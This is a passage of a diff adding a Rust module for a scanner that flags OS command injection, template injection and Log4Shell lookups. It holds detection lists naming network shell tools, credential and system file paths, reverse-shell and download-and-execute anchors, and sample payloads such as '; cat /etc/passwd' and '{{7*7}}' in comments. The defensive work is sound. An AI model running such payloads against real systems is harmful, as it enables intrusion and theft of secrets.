@@ -1,0 +1,1768 @@
+//! OS command injection and server-side template injection.
+//!
+//! The scanner does not look for command names anywhere in the text: a
+//! command only counts in *command position*, that is right after a shell
+//! separator (`;`, `|`, `||`, `&`, `&&`, a newline), inside `$(...)`, inside
+//! backticks, as the first element of a brace expansion `{cat,/etc/passwd}`,
+//! or invoked through an absolute path (`/usr/bin/id`). What follows the
+//! command must then look like shell arguments (options, paths, URLs,
+//! addresses, redirections) unless the command is one that attackers run
+//! bare (`;id`, `|whoami`). So "Tom & Jerry", "cat videos | funny" or
+//! "Sleep is important; so is exercise" stay clean while `; cat /etc/passwd`,
+//! `|| ping -c 10 127.0.0.1` and `a; u''name -a` are found.
+//!
+//! Backticks: a markdown code span in prose (a backtick after a space, as in
+//! "use `ls -la` to list files") is a *weak* context, like a newline or the
+//! start of a value: only intrinsically hostile content is reported there
+//! (sensitive files, reverse shells, reconnaissance commands such as
+//! `whoami`, interpreters given code to run). A backtick after `=`, a quote,
+//! a separator or `(`, or one enclosing the whole value, is shell command
+//! substitution and is treated like `$(...)`.
+//!
+//! Template injection is recognised inside template delimiters (`{{ }}`,
+//! `{% %}`, `${ }`, `#{ }`, `*{ }`, `%{ }`, `<% %>`): arithmetic probes such as
+//! `{{7*7}}` and object-graph walks towards code execution (`__class__`,
+//! `__globals__`, `getRuntime`, `T(java.lang.Runtime)`, Freemarker
+//! `Execute`). Plain placeholders (`{{ name }}`, `${price}`) are not reported.
+//! Log4Shell lookups are recognised after undoing the usual `${lower:j}` and
+//! `${::-j}` obfuscations.
+
+use std::collections::HashMap;
+use std::sync::LazyLock;
+
+use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
+use regex::Regex;
+
+use crate::finding::{Category, Hit, RuleInfo, Severity};
+
+const fn rule(id: &'static str, severity: Severity, description: &'static str) -> RuleInfo {
+    RuleInfo {
+        id,
+        category: Category::Cmdi,
+        severity,
+        description,
+    }
+}
+
+/// Built-in command-injection rules.
+pub(crate) static RULES: &[RuleInfo] = &[
+    rule(
+        "cmdi-chain",
+        Severity::High,
+        "Shell command chained after a separator (; | || & && newline)",
+    ),
+    rule(
+        "cmdi-subshell",
+        Severity::High,
+        "Command substitution with $(...) or backticks",
+    ),
+    rule(
+        "cmdi-ifs",
+        Severity::High,
+        "$IFS or ${IFS} used as a whitespace substitute",
+    ),
+    rule(
+        "cmdi-evasion",
+        Severity::High,
+        "Obfuscated command name: quote or backslash splitting, globbing, brace expansion",
+    ),
+    rule(
+        "cmdi-reverse-shell",
+        Severity::Critical,
+        "Reverse shell or download-and-execute idiom",
+    ),
+    rule(
+        "cmdi-redirect",
+        Severity::High,
+        "Shell redirection to or from a sensitive path",
+    ),
+    rule(
+        "cmdi-windows",
+        Severity::High,
+        "Windows command execution idiom (cmd /c, powershell -enc, IEX, certutil)",
+    ),
+    rule(
+        "cmdi-binary-path",
+        Severity::High,
+        "Shell, interpreter or system tool invoked by absolute path with arguments",
+    ),
+    rule(
+        "cmdi-code-exec",
+        Severity::High,
+        "Code-level command execution call such as system('id') or exec(\"whoami\")",
+    ),
+    rule(
+        "cmdi-ssti",
+        Severity::High,
+        "Server-side template expression probe such as {{7*7}} or ${7*7}",
+    ),
+    rule(
+        "cmdi-ssti-rce",
+        Severity::Critical,
+        "Template or expression-language payload reaching runtime objects (__globals__, T(java.lang.Runtime))",
+    ),
+    rule(
+        "cmdi-jndi",
+        Severity::Critical,
+        "Log4Shell-style ${jndi:...} lookup, including nested-lookup obfuscation",
+    ),
+];
+
+const R_CHAIN: usize = 0;
+const R_SUBSHELL: usize = 1;
+const R_IFS: usize = 2;
+const R_EVASION: usize = 3;
+const R_REVSHELL: usize = 4;
+const R_REDIRECT: usize = 5;
+const R_WINDOWS: usize = 6;
+const R_BINPATH: usize = 7;
+const R_CODE_EXEC: usize = 8;
+const R_SSTI: usize = 9;
+const R_SSTI_RCE: usize = 10;
+const R_JNDI: usize = 11;
+
+/// How much a command name alone says.
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+enum Kind {
+    /// A word that is also ordinary English or common in prose (`cat`, `sleep`).
+    Weak,
+    /// A tool name that is rarely anything else (`wget`, `netstat`).
+    Strong,
+    /// A shell or interpreter: dangerous with `-c`/`-e` and code.
+    Interp,
+    /// Reconnaissance commands attackers run bare (`id`, `whoami`).
+    Recon,
+}
+
+#[derive(Clone, Copy, Debug)]
+struct Cmd {
+    kind: Kind,
+    /// Reported even with no arguments after a strong separator (`;id`).
+    bare: bool,
+    /// Any argument at all counts as evidence (`echo x`).
+    any_arg: bool,
+    /// A first numeric argument counts as evidence (`sleep 5`).
+    numeric: bool,
+}
+
+const fn c(kind: Kind, bare: bool, any_arg: bool, numeric: bool) -> Cmd {
+    Cmd {
+        kind,
+        bare,
+        any_arg,
+        numeric,
+    }
+}
+
+static COMMANDS: LazyLock<HashMap<&'static str, Cmd>> = LazyLock::new(|| {
+    use Kind::*;
+    let mut m = HashMap::new();
+    let recon_bare = c(Recon, true, true, false);
+    for n in [
+        "id",
+        "whoami",
+        "uname",
+        "ifconfig",
+        "ipconfig",
+        "netstat",
+        "systeminfo",
+        "pwd",
+        "hostname",
+        "getent",
+        "printenv",
+        "tasklist",
+        "ver",
+        "lsb_release",
+        "getuid",
+    ] {
+        m.insert(n, recon_bare);
+    }
+    for n in [
+        "bash",
+        "sh",
+        "zsh",
+        "ksh",
+        "csh",
+        "tcsh",
+        "dash",
+        "ash",
+        "busybox",
+        "python",
+        "python2",
+        "python3",
+        "perl",
+        "ruby",
+        "php",
+        "node",
+        "nodejs",
+        "lua",
+        "powershell",
+        "pwsh",
+        "cmd",
+        "jrunscript",
+        "osascript",
+        "tclsh",
+        "expect",
+    ] {
+        m.insert(n, c(Interp, true, false, false));
+    }
+    for n in [
+        "nc",
+        "ncat",
+        "netcat",
+        "socat",
+        "telnet",
+        "wget",
+        "curl",
+        "tftp",
+        "ftp",
+        "ssh",
+        "scp",
+        "rsync",
+        "nslookup",
+        "dig",
+        "nmap",
+        "tcpdump",
+        "chmod",
+        "chown",
+        "chgrp",
+        "chattr",
+        "mkfifo",
+        "mknod",
+        "nohup",
+        "setsid",
+        "xxd",
+        "base64",
+        "hexdump",
+        "crontab",
+        "useradd",
+        "usermod",
+        "userdel",
+        "adduser",
+        "passwd",
+        "sudo",
+        "killall",
+        "pkill",
+        "lsof",
+        "iptables",
+        "systemctl",
+        "wmic",
+        "certutil",
+        "bitsadmin",
+        "mshta",
+        "rundll32",
+        "regsvr32",
+        "cscript",
+        "wscript",
+        "schtasks",
+        "vssadmin",
+        "netsh",
+        "icacls",
+        "xcopy",
+        "findstr",
+        "reg",
+        "sc",
+        "tracert",
+        "traceroute",
+        "xargs",
+        "awk",
+        "gawk",
+        "sed",
+        "grep",
+        "egrep",
+        "fgrep",
+        "openssl",
+        "gcc",
+        "uniq",
+        "tac",
+        "strings",
+        "ifup",
+        "ifdown",
+        "route",
+        "arp",
+        "cmdkey",
+        "nltest",
+        "dsquery",
+        "whoami.exe",
+        "msiexec",
+        "forfiles",
+        "wevtutil",
+        "gpresult",
+        "runas",
+        "rm",
+        "mv",
+        "cp",
+        "dd",
+        "tar",
+        "unzip",
+        "gunzip",
+        "gzip",
+        "bzip2",
+        "zcat",
+        "chroot",
+        "env",
+        "ps",
+        "ls",
+        "uptime",
+        "dmesg",
+        "mount",
+        "umount",
+        "fdisk",
+        "lsblk",
+        "shutdown",
+        "reboot",
+        "service",
+        "apt-get",
+        "yum",
+        "apk",
+        "java",
+    ] {
+        m.insert(n, c(Strong, false, false, false));
+    }
+    // Bare after a strong separator: classic blind probes.
+    for n in ["ls", "ps", "env", "dir", "set", "uptime", "dmesg", "w"] {
+        m.insert(n, c(Strong, true, false, false));
+    }
+    for n in ["echo", "printf", "print"] {
+        m.insert(n, c(Weak, false, true, false));
+    }
+    for n in ["sleep", "ping", "timeout", "kill", "head", "tail", "usleep"] {
+        m.insert(n, c(Weak, false, false, true));
+    }
+    for n in [
+        "cat", "type", "more", "less", "touch", "find", "which", "whereis", "locate", "who",
+        "last", "tee", "nl", "rev", "file", "stat", "readlink", "du", "df", "sort", "wc", "cut",
+        "copy", "del", "erase", "move", "ren", "rename", "mkdir", "rmdir", "rd", "md", "net",
+        "start", "call", "attrib", "tree", "exec", "eval", "source", "export", "unset", "alias",
+        "history", "od", "diff", "od", "host", "ip", "ss", "free", "top", "time", "id.exe",
+    ] {
+        m.entry(n).or_insert(c(Weak, false, false, false));
+    }
+    m
+});
+
+fn lookup(word: &str) -> Option<Cmd> {
+    let w = word.strip_suffix(".exe").unwrap_or(word);
+    COMMANDS.get(w).copied()
+}
+
+/// Glob-matches a pattern holding `?`/`*` against known command names
+/// (`c?t`, `/???/c?t` after the directory is stripped).
+fn glob_lookup(pat: &str) -> Option<Cmd> {
+    if pat.bytes().all(|b| b == b'?' || b == b'*') {
+        return None;
+    }
+    COMMANDS
+        .iter()
+        .filter(|(name, _)| name.len() >= 2)
+        .find(|(name, _)| glob_match(pat.as_bytes(), name.as_bytes()))
+        .map(|(_, c)| *c)
+}
+
+fn glob_match(p: &[u8], s: &[u8]) -> bool {
+    // Iterative wildcard matching with single-star backtracking: O(p*s) at worst,
+    // and both sides are capped at 64 bytes by the caller.
+    let (mut pi, mut si) = (0, 0);
+    let (mut star, mut mark) = (usize::MAX, 0);
+    while si < s.len() {
+        if pi < p.len() && (p[pi] == b'?' || p[pi] == s[si]) {
+            pi += 1;
+            si += 1;
+        } else if pi < p.len() && p[pi] == b'*' {
+            star = pi;
+            mark = si;
+            pi += 1;
+        } else if star != usize::MAX {
+            pi = star + 1;
+            mark += 1;
+            si = mark;
+        } else {
+            return false;
+        }
+    }
+    while pi < p.len() && p[pi] == b'*' {
+        pi += 1;
+    }
+    pi == p.len()
+}
+
+/// The context a command word appears in.
+#[derive(Clone, Copy, PartialEq, Eq, Debug)]
+enum Ctx {
+    /// After `;`, `|`, `&`, `&&`, `||`: shell syntax is certain.
+    Sep,
+    /// `$(`, `<(`, shell backticks.
+    Subst,
+    /// `{cmd,arg}` brace expansion.
+    Brace,
+    /// Newline, markdown code span: prose is possible.
+    Weak,
+    /// Start of a value: also JSON keys like `id` or `hostname`.
+    Start,
+}
+
+struct Word {
+    /// Lower-cased command name with quotes, backslashes and empty
+    /// expansions removed.
+    norm: String,
+    /// End of the word in the text.
+    end: usize,
+    /// Quotes, backslashes, `$9`, `$@` were removed from inside the word.
+    spliced: bool,
+    /// The word held `?`/`*` wildcards.
+    globbed: bool,
+}
+
+fn is_word_byte(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-' | b'/' | b'?' | b'*' | b'+' | b'~')
+}
+
+/// Length of an `$IFS`-style whitespace substitute at `i`, if any.
+fn ifs_len(b: &[u8], i: usize) -> usize {
+    let rest = &b[i..];
+    if rest.len() >= 6
+        && rest[0] == b'$'
+        && rest[1] == b'{'
+        && rest[2..5].eq_ignore_ascii_case(b"IFS")
+    {
+        // ${IFS} or ${IFS%??}-style trims.
+        if let Some(close) = rest[5..].iter().take(8).position(|&x| x == b'}') {
+            return 6 + close;
+        }
+    }
+    if rest.len() >= 4 && rest[0] == b'$' && rest[1..4].eq_ignore_ascii_case(b"IFS") {
+        let mut n = 4;
+        // $IFS$9: the positional parameter ends the variable name.
+        if rest.len() >= n + 2 && rest[n] == b'$' && rest[n + 1].is_ascii_digit() {
+            n += 2;
+        }
+        return n;
+    }
+    0
+}
+
+/// Skips blanks and `$IFS` substitutes; returns the new position.
+fn skip_blank(b: &[u8], mut i: usize, end: usize) -> usize {
+    while i < end {
+        match b[i] {
+            b' ' | b'\t' => i += 1,
+            b'$' => {
+                let n = ifs_len(b, i);
+                if n == 0 {
+                    break;
+                }
+                i += n;
+            }
+            _ => break,
+        }
+    }
+    i
+}
+
+/// Reads a command word starting at `i`, undoing quote and backslash splitting.
+fn read_word(b: &[u8], start: usize, end: usize) -> Word {
+    let mut norm = String::new();
+    let mut i = start;
+    let mut spliced = false;
+    let mut globbed = false;
+    while i < end && norm.len() < 64 {
+        let x = b[i];
+        if x == b'\'' || x == b'"' {
+            // Quotes right at the start or end are plain quoting; inside they split.
+            if !norm.is_empty() && i + 1 < end && is_word_byte(b[i + 1]) {
+                spliced = true;
+            }
+            i += 1;
+            continue;
+        }
+        if x == b'\\' {
+            if i + 1 < end && b[i + 1].is_ascii_alphanumeric() && !norm.is_empty() {
+                // `w\ho\am\i`; a backslash after `x:` is a Windows path.
+                if norm.ends_with(':') {
+                    norm.push('/');
+                } else {
+                    spliced = true;
+                }
+                i += 1;
+                continue;
+            }
+            if i + 1 < end && b[i + 1].is_ascii_alphanumeric() {
+                i += 1;
+                spliced = true;
+                continue;
+            }
+            break;
+        }
+        if x == b'$' && !norm.is_empty() {
+            if i + 1 < end && (b[i + 1].is_ascii_digit() || b[i + 1] == b'@' || b[i + 1] == b'*') {
+                spliced = true;
+                i += 2;
+                continue;
+            }
+            if i + 2 < end && b[i + 1] == b'{' && b[i + 2] == b'}' {
+                spliced = true;
+                i += 3;
+                continue;
+            }
+            break;
+        }
+        if x == b':' && norm.len() == 1 && i + 1 < end && matches!(b[i + 1], b'\\' | b'/') {
+            norm.push(':');
+            i += 1;
+            continue;
+        }
+        if !is_word_byte(x) {
+            break;
+        }
+        if x == b'?' || x == b'*' {
+            globbed = true;
+        }
+        norm.push(x.to_ascii_lowercase() as char);
+        i += 1;
+    }
+    Word {
+        norm,
+        end: i,
+        spliced,
+        globbed,
+    }
+}
+
+/// What the arguments after a command say.
+#[derive(Default, Debug)]
+struct Args {
+    /// Nothing follows (end of value or another separator).
+    bare: bool,
+    /// Something follows, whatever it is.
+    any: bool,
+    /// Options, paths, file names, variables, redirections.
+    shellish: bool,
+    /// First argument is a number.
+    numeric: bool,
+    /// Sensitive paths, URLs, IP addresses, `/dev/tcp`, an interpreter given code.
+    strong: bool,
+    /// End of the argument run.
+    end: usize,
+    /// The only shell-like evidence is options.
+    opt_only: bool,
+    /// Plain alphabetic words among the arguments.
+    prose_words: usize,
+}
+
+const SENSITIVE: &[&str] = &[
+    "/etc/",
+    "/dev/tcp",
+    "/dev/udp",
+    "/bin/sh",
+    "/bin/bash",
+    "/proc/",
+    "win.ini",
+    "system32",
+    "c:/windows",
+    "c:\\windows",
+    ".ssh",
+    "passwd",
+    "shadow",
+    "/var/www",
+    "/tmp/",
+    "authorized_keys",
+    "id_rsa",
+    "/root",
+    "boot.ini",
+    "/usr/bin/",
+    "/bin/",
+];
+
+/// A nested interpreter invocation inside the arguments (`xargs sh -c 'id'`).
+const INNER_SHELL: &[&str] = &[
+    "sh -c ",
+    "bash -c ",
+    "cmd /c ",
+    "python -c ",
+    "perl -e ",
+    "php -r ",
+    "ruby -e ",
+];
+
+const FILE_EXTS: &[&str] = &[
+    "txt", "log", "php", "sh", "py", "pl", "rb", "conf", "cfg", "ini", "xml", "json", "db", "sql",
+    "bak", "jsp", "asp", "aspx", "cgi", "exe", "bat", "ps1", "html", "htm", "js", "key", "pem",
+    "env", "yml", "yaml", "zip", "gz", "tgz", "tar", "so", "dll", "vbs", "hta",
+];
+
+fn looks_like_ip(tok: &str) -> bool {
+    let t = tok.split(':').next().unwrap_or(tok);
+    let parts: Vec<&str> = t.split('.').collect();
+    parts.len() == 4
+        && parts
+            .iter()
+            .all(|p| !p.is_empty() && p.len() <= 3 && p.bytes().all(|b| b.is_ascii_digit()))
+}
+
+fn looks_like_host(tok: &str) -> bool {
+    // evil.example/p, example.com:8080/x
+    let host = tok.split(['/', ':']).next().unwrap_or("");
+    tok.contains('/')
+        && host.contains('.')
+        && host
+            .rsplit('.')
+            .next()
+            .is_some_and(|tld| tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_alphabetic()))
+}
+
+/// Is `b` a byte that ends a command's argument run?
+fn is_sep(b: u8) -> bool {
+    matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b')' | b'\0')
+}
+
+fn analyse_args(text: &str, from: usize, end: usize, cmd: &str, kind: Kind, brace: bool) -> Args {
+    let b = text.as_bytes();
+    let mut a = Args::default();
+    let mut i = skip_blank(b, from, end);
+    if brace && i < end && b[i] == b',' {
+        i += 1;
+    }
+    let limit = (i + 200).min(end);
+    let mut stop = i;
+    while stop < limit && !is_sep(b[stop]) && !(brace && b[stop] == b'}') {
+        stop += 1;
+    }
+    // Closing quotes and braces do not count as arguments (`';id;'`).
+    let arg_text = &text[i..stop];
+    let trimmed = arg_text.trim_matches(|c: char| c.is_whitespace() || c == '\'' || c == '"');
+    a.end = stop;
+    if trimmed.is_empty() {
+        a.bare = true;
+        return a;
+    }
+    a.any = true;
+    let lower = trimmed.to_ascii_lowercase();
+    let normalized = lower
+        .replace(['\'', '"'], "")
+        .replace("${ifs}", " ")
+        .replace("$ifs", " ");
+    let mut tokens = normalized
+        .split(|c: char| c.is_whitespace() || (brace && c == ','))
+        .filter(|t| !t.is_empty());
+    if let Some(first) = tokens.clone().next() {
+        a.numeric = first.bytes().all(|x| x.is_ascii_digit() || x == b'.') && first.len() <= 6;
+        if cmd == "net"
+            && matches!(
+                first,
+                "user"
+                    | "users"
+                    | "localgroup"
+                    | "group"
+                    | "view"
+                    | "share"
+                    | "use"
+                    | "accounts"
+                    | "session"
+                    | "start"
+                    | "stop"
+                    | "config"
+            )
+        {
+            a.shellish = true;
+        }
+    }
+    if SENSITIVE.iter().any(|s| normalized.contains(s))
+        || normalized.contains("://")
+        || INNER_SHELL.iter().any(|s| normalized.contains(s))
+    {
+        a.strong = true;
+    }
+    let windows_cmd = matches!(
+        cmd,
+        "cmd"
+            | "dir"
+            | "type"
+            | "copy"
+            | "del"
+            | "net"
+            | "ping"
+            | "findstr"
+            | "tasklist"
+            | "reg"
+            | "sc"
+            | "start"
+            | "attrib"
+            | "xcopy"
+            | "icacls"
+            | "netsh"
+            | "schtasks"
+            | "certutil"
+            | "bitsadmin"
+            | "wmic"
+            | "systeminfo"
+            | "ipconfig"
+            | "runas"
+            | "move"
+            | "erase"
+            | "md"
+            | "rd"
+            | "tree"
+    );
+    let mut other_evidence = false;
+    let mut opt = false;
+    for (n, t) in tokens.by_ref().enumerate() {
+        if looks_like_ip(t) || looks_like_host(t) {
+            a.strong = true;
+        }
+        let bytes = t.as_bytes();
+        let before = a.shellish;
+        let word = t.trim_end_matches(['.', ',', '!', '?']);
+        if word.len() >= 2 && word.bytes().all(|x| x.is_ascii_alphabetic()) {
+            a.prose_words += 1;
+        }
+        if bytes.len() >= 2
+            && bytes[0] == b'-'
+            && (bytes[1].is_ascii_alphanumeric() || bytes[1] == b'-')
+        {
+            opt = true;
+            a.shellish = true;
+            if kind == Kind::Interp
+                && matches!(
+                    t,
+                    "-c" | "-e"
+                        | "-i"
+                        | "-r"
+                        | "-enc"
+                        | "-ec"
+                        | "-encodedcommand"
+                        | "-command"
+                        | "-nop"
+                        | "-noprofile"
+                        | "-exec"
+                        | "-m"
+                )
+                && n + 1 < 64
+            {
+                // An interpreter told to run code, with code after the flag.
+                let after = normalized.split(t).nth(1).unwrap_or("").trim();
+                if !after.is_empty() {
+                    a.strong = true;
+                }
+            }
+        } else if windows_cmd
+            && bytes.len() == 2
+            && bytes[0] == b'/'
+            && bytes[1].is_ascii_alphabetic()
+        {
+            a.shellish = true;
+            if cmd == "cmd" && matches!(bytes[1], b'c' | b'k') {
+                a.strong = true;
+            }
+        } else if t.contains('/') || t.contains('\\') || t.starts_with('~') || t.starts_with('$') {
+            a.shellish = true;
+        } else if t.starts_with('>') || t.starts_with('<') || t.contains('>') {
+            a.shellish = true;
+        } else if t.starts_with('@') || t == "*" || t == "+x" || t.starts_with("+") {
+            a.shellish = true;
+        } else if let Some((_, ext)) = t.rsplit_once('.') {
+            if FILE_EXTS.contains(&ext) {
+                a.shellish = true;
+            }
+        } else if bytes.len() == 3
+            && bytes[0].is_ascii_digit()
+            && bytes.iter().all(u8::is_ascii_digit)
+        {
+            // chmod 777
+            if matches!(cmd, "chmod" | "umask") {
+                a.shellish = true;
+            }
+        }
+        if a.shellish && !before && !opt {
+            other_evidence = true;
+        }
+        if !t.starts_with('-') && a.shellish && !before {
+            other_evidence = true;
+        }
+        if n > 12 {
+            break;
+        }
+    }
+    a.opt_only = opt && !other_evidence && !a.strong && !a.numeric;
+    if kind == Kind::Interp && lower.contains(['\'', '"']) && a.shellish {
+        a.strong = true;
+    }
+    a
+}
+
+/// Decides whether a command in a given context with given arguments is an injection.
+fn decide(cmd: Cmd, ctx: Ctx, args: &Args) -> bool {
+    let evidence =
+        args.shellish || args.strong || (cmd.numeric && args.numeric) || (cmd.any_arg && args.any);
+    match ctx {
+        Ctx::Sep | Ctx::Subst | Ctx::Brace => (args.bare && cmd.bare) || evidence,
+        Ctx::Weak => args.strong || (cmd.kind == Kind::Recon && (args.bare || args.shellish)),
+        Ctx::Start => args.strong || (cmd.kind == Kind::Recon && args.shellish),
+    }
+}
+
+/// Recon commands whose names are never ordinary values or keys.
+fn unambiguous_bare(name: &str) -> bool {
+    matches!(
+        name,
+        "whoami"
+            | "ifconfig"
+            | "ipconfig"
+            | "netstat"
+            | "systeminfo"
+            | "uname"
+            | "getuid"
+            | "lsb_release"
+            | "tasklist"
+            | "printenv"
+    )
+}
+
+fn push(hits: &mut Vec<Hit>, text: &str, rule: usize, start: usize, end: usize) {
+    let mut s = start.min(text.len());
+    let mut e = end.min(text.len());
+    while s > 0 && !text.is_char_boundary(s) {
+        s -= 1;
+    }
+    while e < text.len() && !text.is_char_boundary(e) {
+        e += 1;
+    }
+    if e > s {
+        hits.push(Hit {
+            rule: &RULES[rule],
+            start: s,
+            end: e,
+        });
+    }
+}
+
+/// Examines a potential command at `pos` in context `ctx`; `sep_start` is
+/// where the separator began (the hit starts there).
+fn check_command(
+    text: &str,
+    sep_start: usize,
+    pos: usize,
+    seg_end: usize,
+    ctx: Ctx,
+    hits: &mut Vec<Hit>,
+) -> bool {
+    let b = text.as_bytes();
+    let mut i = skip_blank(b, pos, seg_end);
+    // `;(id)`, `|{ls,-la}` and `; 'cat' x`: tolerate one opening paren.
+    if i < seg_end && b[i] == b'(' && ctx != Ctx::Brace {
+        i = skip_blank(b, i + 1, seg_end);
+    }
+    if i >= seg_end {
+        return false;
+    }
+    let w = read_word(b, i, seg_end);
+    if w.norm.is_empty() {
+        return false;
+    }
+    // `type: "x"`, `id=5`, `echo(x)`, `set.add`: not shell syntax.
+    if w.end < seg_end && matches!(b[w.end], b'=' | b'(' | b':' | b'[') {
+        return false;
+    }
+    let mut name = w.norm.as_str();
+    let mut via_path = false;
+    let mut cmd = None;
+    if name.contains('/') {
+        // /usr/bin/id, /???/c?t, c:/windows/system32/cmd.exe
+        via_path = true;
+        let base = name.rsplit('/').next().unwrap_or("");
+        let dir = &name[..name.len() - base.len()];
+        let dir_ok = dir.contains("bin/")
+            || dir.contains("system32")
+            || (dir.contains('?') || dir.contains('*'));
+        if dir_ok && !base.is_empty() {
+            name = base;
+        } else {
+            return false;
+        }
+    }
+    if w.globbed {
+        if name.contains('?') || name.contains('*') {
+            cmd = glob_lookup(name);
+        }
+        if cmd.is_none() {
+            cmd = lookup(name);
+        }
+    } else {
+        cmd = lookup(name);
+    }
+    let Some(cmd) = cmd else {
+        return false;
+    };
+    let brace = ctx == Ctx::Brace;
+    if brace && !(w.end < seg_end && b[w.end] == b',') {
+        return false;
+    }
+    let mut args = analyse_args(text, w.end, seg_end, name, cmd.kind, brace);
+    // `| id | name |` is a markdown table row, not a pipeline.
+    if args.bare
+        && text.as_bytes()[sep_start] == b'|'
+        && args.end < seg_end
+        && text.as_bytes()[args.end] == b'|'
+    {
+        args.bare = false;
+    }
+    let mut effective = ctx;
+    if via_path && matches!(ctx, Ctx::Weak | Ctx::Start) && (args.any || args.bare) {
+        // An absolute path to a binary is itself shell syntax.
+        effective = Ctx::Sep;
+    }
+    if ctx == Ctx::Start && args.bare && unambiguous_bare(name) {
+        effective = Ctx::Sep;
+    }
+    // `sort | uniq -c for counts.`: options followed by a sentence are prose.
+    if args.opt_only && args.prose_words >= 2 && !(cmd.any_arg) {
+        return false;
+    }
+    if !decide(cmd, effective, &args) {
+        return false;
+    }
+    let rule = if w.spliced || w.globbed || brace {
+        R_EVASION
+    } else if matches!(ctx, Ctx::Subst) {
+        R_SUBSHELL
+    } else if via_path && matches!(ctx, Ctx::Weak | Ctx::Start) {
+        R_BINPATH
+    } else {
+        R_CHAIN
+    };
+    let end = if brace {
+        (args.end + 1).min(seg_end)
+    } else {
+        args.end
+    };
+    let end = trim_end(text, sep_start, end);
+    push(hits, text, rule, sep_start, end);
+    true
+}
+
+fn trim_end(text: &str, start: usize, end: usize) -> usize {
+    let s = &text[..end];
+    let t = s.trim_end_matches([' ', '\t', '\r', '\n']);
+    t.len().max(start + 1).min(end)
+}
+
+/// Scans one NUL-free value.
+fn scan_segment(text: &str, off_end: (usize, usize), hits: &mut Vec<Hit>) {
+    let (seg_start, seg_end) = off_end;
+    let b = text.as_bytes();
+    // Start of the value: prose is possible, so weak context.
+    let first = skip_blank(b, seg_start, seg_end);
+    if first < seg_end && b[first] != b'`' {
+        check_command(text, first, first, seg_end, Ctx::Start, hits);
+    }
+    let mut i = seg_start;
+    while i < seg_end {
+        let x = b[i];
+        if !TRIGGER[x as usize] {
+            i += 1;
+            continue;
+        }
+        match x {
+            b';' | b'|' | b'&' => {
+                let mut j = i + 1;
+                while j < seg_end && j < i + 3 && matches!(b[j], b'|' | b'&' | b';') {
+                    j += 1;
+                }
+                // `&amp;`-style leftovers and `&#...;` are not separators.
+                check_command(text, i, j, seg_end, Ctx::Sep, hits);
+                i = j;
+            }
+            b'\n' | b'\r' => {
+                let mut j = i + 1;
+                while j < seg_end && matches!(b[j], b'\n' | b'\r') {
+                    j += 1;
+                }
+                check_command(text, i, j, seg_end, Ctx::Weak, hits);
+                i = j;
+            }
+            b'$' => {
+                if i + 1 < seg_end && b[i + 1] == b'(' && !(i + 2 < seg_end && b[i + 2] == b'(') {
+                    check_command(text, i, i + 2, seg_end, Ctx::Subst, hits);
+                    i += 2;
+                } else {
+                    let n = ifs_len(b, i);
+                    if n > 0 {
+                        let before = i > seg_start
+                            && (b[i - 1].is_ascii_alphanumeric()
+                                || b[i - 1] == b'$'
+                                || b[i - 1] == b'}');
+                        let after = i + n < seg_end
+                            && (b[i + n].is_ascii_alphanumeric()
+                                || matches!(b[i + n], b'/' | b'-' | b'$' | b'.' | b'\'' | b'"'));
+                        if before || after {
+                            push(hits, text, R_IFS, i, i + n);
+                        }
+                        i += n;
+                    } else {
+                        i += 1;
+                    }
+                }
+            }
+            b'<' | b'>' => {
+                // Process substitution `<(cmd)`.
+                if x == b'<' && i + 1 < seg_end && b[i + 1] == b'(' {
+                    check_command(text, i, i + 2, seg_end, Ctx::Subst, hits);
+                }
+                i += 1;
+            }
+            b'`' => {
+                let close = b[i + 1..seg_end].iter().take(400).position(|&y| y == b'`');
+                let prev = b[seg_start..i]
+                    .iter()
+                    .rev()
+                    .find(|&&y| y != b' ' && y != b'\t')
+                    .copied();
+                let whole = prev.is_none()
+                    && close.is_some_and(|c| text[i + 1 + c + 1..seg_end].trim().is_empty());
+                let shell = whole
+                    || matches!(
+                        prev,
+                        Some(b'=' | b'"' | b'\'' | b';' | b'|' | b'&' | b'(' | b'$' | b'{' | b',')
+                    );
+                let ctx = if shell { Ctx::Subst } else { Ctx::Weak };
+                let end = close.map_or(seg_end, |c| i + 1 + c);
+                if check_command(text, i, i + 1, end, ctx, hits) {
+                    // Extend the hit over the closing backtick.
+                    if let (Some(h), Some(_)) = (hits.last_mut(), close) {
+                        if h.start == i {
+                            h.end = h.end.max(end + 1).min(seg_end);
+                        }
+                    }
+                }
+                i = end + 1;
+            }
+            b'{' => {
+                if i + 1 < seg_end && b[i + 1] != b'{' && (i == seg_start || b[i - 1] != b'$') {
+                    check_command(text, i, i + 1, seg_end, Ctx::Brace, hits);
+                }
+                i += 1;
+            }
+            _ => i += 1,
+        }
+    }
+}
+
+static TRIGGER: [bool; 256] = {
+    let mut t = [false; 256];
+    t[b';' as usize] = true;
+    t[b'|' as usize] = true;
+    t[b'&' as usize] = true;
+    t[b'\n' as usize] = true;
+    t[b'\r' as usize] = true;
+    t[b'$' as usize] = true;
+    t[b'`' as usize] = true;
+    t[b'{' as usize] = true;
+    t[b'<' as usize] = true;
+    t
+};
+
+// ===== pattern-shaped rules =====
+
+/// Anchors that gate the regex pass; absent anchors mean no regex runs.
+static ANCHORS: LazyLock<AhoCorasick> = LazyLock::new(|| {
+    AhoCorasickBuilder::new()
+        .ascii_case_insensitive(true)
+        .match_kind(MatchKind::LeftmostFirst)
+        .build([
+            "/dev/tcp",
+            "/dev/udp",
+            "nc ",
+            "nc.exe",
+            "ncat",
+            "netcat",
+            "socat",
+            "mkfifo",
+            "socket",
+            "powershell",
+            "pwsh",
+            "cmd",
+            "iex",
+            "downloadstring",
+            "certutil",
+            "bitsadmin",
+            "mshta",
+            "rundll32",
+            "regsvr32",
+            "curl",
+            "wget",
+            "{{",
+            "{%",
+            "${",
+            "#{",
+            "<%",
+            "*{",
+            "%{",
+            "t(",
+            "java.lang",
+            "getruntime",
+            "processbuilder",
+            "freemarker",
+            "#set",
+            "$class",
+            "_self",
+            "__class__",
+            "__globals__",
+            "__mro__",
+            "__subclasses__",
+            "__builtins__",
+            "__import__",
+            "{php}",
+            "{system",
+            "execute()",
+            "@(",
+            "system(",
+            "exec(",
+            "passthru",
+            "shell_exec",
+            "popen",
+            "proc_open",
+            "> ",
+            ">/",
+            ">>",
+            "<",
+            "child_process",
+        ])
+        .expect("static patterns")
+});
+
+struct PatRule {
+    re: Regex,
